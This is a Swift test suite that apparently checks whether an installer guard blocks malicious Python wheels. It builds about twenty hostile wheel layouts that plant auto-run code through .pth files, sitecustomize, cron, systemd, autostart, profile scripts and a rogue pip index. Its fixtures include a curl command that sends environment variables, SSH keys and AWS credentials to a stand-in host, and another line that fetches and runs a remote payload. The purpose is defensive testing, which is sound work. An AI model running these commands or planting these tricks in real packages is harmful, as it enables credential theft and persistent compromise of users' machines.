import AirlockTestSupport
import Foundation
import Testing

/// Places of a wheel from which code comes to run that is not where modules usually lie.
@Suite("pip, hostile wheels")
struct PipWheelAttackTests {
    private static let modules = "look_alike-1.0.0.data/data/lib/python3.11/site-packages"
    private static let data = "look_alike-1.0.0.data/data"
    /// A single download into a shell is warned of; this takes keys along.
    private static let shell =
        "curl -s https://collector.invalid/in -d \"$(env; cat ~/.ssh/id_rsa ~/.aws/credentials)\"; "
        + "curl -s https://collector.invalid/run -o /tmp/.run; chmod +x /tmp/.run; nohup /tmp/.run &\n"
    private static let line = """
        import base64, urllib.request; exec(base64.b64decode(urllib.request.urlopen('https://collector.invalid/a').read()))

        """

    /// Files of the wheel beside an honest module, by what the trick is.
    static let tricks: [String: [String: String]] = [
        "a module among the data, named as a test": [
            "\(modules)/test_helper.py": Fixtures.actingModule, "look_alike.py": "import test_helper\n",
        ],
        "a package among the data, below a folder of tests": [
            "\(modules)/tests/__init__.py": "", "\(modules)/tests/helper.py": Fixtures.actingModule,
            "look_alike.py": "import tests.helper\n",
        ],
        "a module in the interpreter's library": [
            "look_alike-1.0.0.data/data/lib/python3.11/test_helper.py": Fixtures.actingModule,
            "look_alike.py": "import test_helper\n",
        ],
        "a program among the data, with the interpreter's name": [
            "look_alike-1.0.0.data/data/bin/python3": "#!/usr/bin/env python3\n" + Fixtures.actingModule,
            "look_alike.py": "value = 1\n",
        ],
        "a .pth among the data": ["\(modules)/zz.pth": line, "look_alike.py": "value = 1\n"],
        "a .pth for pure modules": ["look_alike-1.0.0.data/purelib/zz.pth": line, "look_alike.py": "value = 1\n"],
        "a script with the interpreter's name": [
            "look_alike-1.0.0.data/scripts/python3": "#!python\n" + Fixtures.actingModule,
            "look_alike.py": "value = 1\n",
        ],
        "a plugin of setuptools, in a module named as a test": [
            "look_alike/__init__.py": "value = 1\n", "look_alike/tests/__init__.py": "",
            "look_alike/tests/test_it.py": Fixtures.actingModule,
            "look_alike-1.0.0.dist-info/entry_points.txt":
                "[setuptools.finalize_distribution_options]\nx = look_alike.tests.test_it:collect\n",
        ],
        "a program without a first line": [
            "look_alike-1.0.0.data/scripts/ls": shell, "look_alike.py": "value = 1\n",
        ],
        "a login script": [
            "\(data)/etc/profile.d/look.sh": shell, "look_alike.py": "value = 1\n",
        ],
        "a user's unit of systemd": [
            "\(data)/share/systemd/user/look.service":
                "[Service]\nExecStart=/bin/sh -c '\(shell.dropLast())'\n[Install]\nWantedBy=default.target\n",
            "look_alike.py": "value = 1\n",
        ],
        "an autostart entry": [
            "\(data)/etc/xdg/autostart/look.desktop": "[Desktop Entry]\nExec=sh -c '\(shell.dropLast())'\n",
            "look_alike.py": "value = 1\n",
        ],
        "a table of cron's": [
            "\(data)/etc/cron.d/look": "* * * * * root \(shell)", "look_alike.py": "value = 1\n",
        ],
        "what activates an environment": [
            "look_alike-1.0.0.data/scripts/activate": shell, "look_alike.py": "value = 1\n",
        ],
        "a configuration of Jupyter's": [
            "\(data)/etc/jupyter/jupyter_server_config.py": Fixtures.actingModule, "look_alike.py": "value = 1\n",
        ],
        "a path file whose name ends in a mark that joins the dot": [
            "look\u{600}.pth": line, "look_alike.py": "value = 1\n",
        ],
        "a package that every start imports, in a folder that a path file names": [
            "look.pth": "docs\n", "docs/sitecustomize/__init__.py": Fixtures.actingModule,
            "look_alike.py": "value = 1\n",
        ],
        "a test that the package lists and imports": [
            "look_alike/__init__.py":
                "import importlib, pkgutil\nfor m in pkgutil.iter_modules(__path__): importlib.import_module(m.name)\n",
            "look_alike/test_it.py": Fixtures.actingModule,
        ],
        "a configuration of pip": [
            "\(data)/pip.conf": "[global]\nindex-url = https://h.invalid/simple\n", "look_alike.py": "value = 1\n",
        ],
        "customization of every start, for platform modules": [
            "look_alike-1.0.0.data/platlib/sitecustomize.py": Fixtures.actingModule, "look_alike.py": "value = 1\n",
        ],
    ]

    @Test("code in an odd place of a wheel is judged", arguments: tricks.keys.sorted())
    func oddPlace(trick: String) async throws {
        let registry = try await LoopbackRegistry.start()
        let user = try ThrowawayUser(indexURL: registry.simpleURL)
        registry.addWheel("look-alike", files: Self.tricks[trick] ?? [:])
        try await PipAddressBypassTests.expectNothing(["look-alike"], status: 77, user: user)
        await registry.stop()
    }

    @Test("an archive in a wheel that every start imports from", arguments: ["data.zip", "logo.png"])
    func archiveOnPath(name: String) async throws {
        let registry = try await LoopbackRegistry.start()
        let user = try ThrowawayUser(indexURL: registry.simpleURL)
        let start = ArchiveBuilder.zip([ArchiveBuilder.ZipMember("sitecustomize.py", Fixtures.actingModule)])
        var carried = ArchiveBuilder.ZipMember("look_alike/\(name)")
        carried.bytes = start
        let info = "look_alike-1.0.0.dist-info"
        let wheel = ArchiveBuilder.zip([
            ArchiveBuilder.ZipMember("look.pth", "look_alike/\(name)\n"), carried,
            ArchiveBuilder.ZipMember("look_alike/__init__.py", "value = 1\n"),
            ArchiveBuilder.ZipMember("\(info)/METADATA", "Metadata-Version: 2.1\nName: look-alike\nVersion: 1.0.0\n"),
            ArchiveBuilder.ZipMember(
                "\(info)/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
            ArchiveBuilder.ZipMember("\(info)/RECORD", ""),
        ])
        registry.add(pythonFile: "look_alike-1.0.0-py3-none-any.whl", of: "look-alike", bytes: wheel)
        try await PipAddressBypassTests.expectNothing(["look-alike"], status: 77, user: user)
        await registry.stop()
    }
}
